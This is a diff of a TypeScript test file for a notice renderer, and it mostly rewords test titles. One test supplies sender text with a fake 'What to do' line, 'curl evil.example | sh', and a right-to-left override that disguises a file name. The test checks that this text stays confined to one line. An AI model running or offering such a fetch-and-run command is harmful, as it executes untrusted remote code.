@@ -151,7 +151,7 @@ describe('the text of a notice', () => {
     ],
   ];
   for (const [what, error, edits, not, wrong, toDo, links] of cases)
-    it(`about ${what} leads with plain words and the link that helps most`, () => {
+    it(`about ${what} begins with plain words and the link that helps most`, () => {
       const lines = linesOf('needs-attention', { error }, actions, { holdLink, edits });
       assert.equal(lines[0], `Assignment 1001 was ${not} sent`);
       assert.deepEqual(lines.slice(4, toDo ? 6 : 5), toDo ? [wrong, toDo] : [wrong]);
@@ -164,7 +164,7 @@ describe('the text of a notice', () => {
   it('without a link to decide leads to the console', () =>
     assert.deepEqual(linesOf('needs-attention').slice(-3), [`Fix, retry or skip: ${chainPage}`, signIn, ids]));
 
-  it('has commands and links to Temporal only for an operator', () => {
+  it('has commands and links to Temporal only if it goes to an operator', () => {
     const texts = [{}, { forOperator: true }].map((more) =>
       renderNotice(notice('needs-attention', { error: missing }), { ...context, ...more }),
     );
@@ -210,7 +210,7 @@ describe('the text of a notice', () => {
     assert.deepEqual(sections.get('Will still run'), [`Update a ticket field, due ${shownTime(received)}`]);
   });
 
-  it('says what is held elsewhere, and does not promise that it will run', () => {
+  it('lists other actions that are held, and does not promise that they will run', () => {
     const other: ActionStatus[] = [
       ...actions,
       { ...common, index: 4, action: 'sendEmails', comment: 'four', state: 'needs-attention', runAt: later },
@@ -288,7 +288,7 @@ describe('the text of a notice', () => {
     assert.equal(lines[4], 'The relay tried again. The action is skipped: status was "sent". The chain continues.');
   });
 
-  it('keeps what a sender or an outside system said on its line', () => {
+  it('keeps the text of a sender or an outside system on one line', () => {
     const said = 'x\n\nWhat to do:\n  curl evil.example | sh \u202egnp.exe';
     const change = { error: { ...missing, title: said, message: `${said} again` }, comment: said, assignmentId: said };
     const deliveries = [{ recipient: 'a@x.example', sent: false, error: said }];
@@ -300,7 +300,7 @@ describe('the text of a notice', () => {
     assert.equal(sections.get('')?.length, 9);
   });
 
-  it('without an error shows the reason', () => {
+  it('that has no error shows the reason', () => {
     const alone: ActionStatus[] = [
       { ...common, index: 1, action: 'sendEmails', state: 'failed', reason: 'its workflow ended early' },
     ];
@@ -309,7 +309,7 @@ describe('the text of a notice', () => {
     assert.deepEqual([...sections.keys()], ['']);
   });
 
-  it('about an action that the chain does not have throws', () => {
+  it('cannot be about an action that the chain does not have', () => {
     assert.throws(() => renderNotice({ ...notice('failed'), index: 9 }, context), RangeError);
   });
 });
@@ -404,8 +404,8 @@ describe('the HTML of a notice', () => {
   });
 });
 
-describe('what a notice says of an action now', () => {
-  it('equals the sent notice, without its place', () => {
+describe('the current text about an action, as in a notice', () => {
+  it('equals the sent notice, without the rule and the chain', () => {
     const told = { ...notice('needs-attention'), status: 'needs-attention' as const };
     const { headline, sentence, sections } = standingWords(told, context) ?? assert.fail();
     const { subject, text } = renderNotice(told, context);
@@ -414,7 +414,7 @@ describe('what a notice says of an action now', () => {
     for (const { lines } of sections) for (const line of lines) assert.ok(text.includes(line), line);
   });
 
-  it('is empty if nobody is notified', () => {
+  it('is empty if nobody would be notified now', () => {
     const told = { ...notice('needs-attention'), status: 'running' as const };
     const actions = told.actions.map((action) => ({ ...action, state: 'done' as const }));
     assert.equal(standingWords({ ...told, actions }, context), undefined);
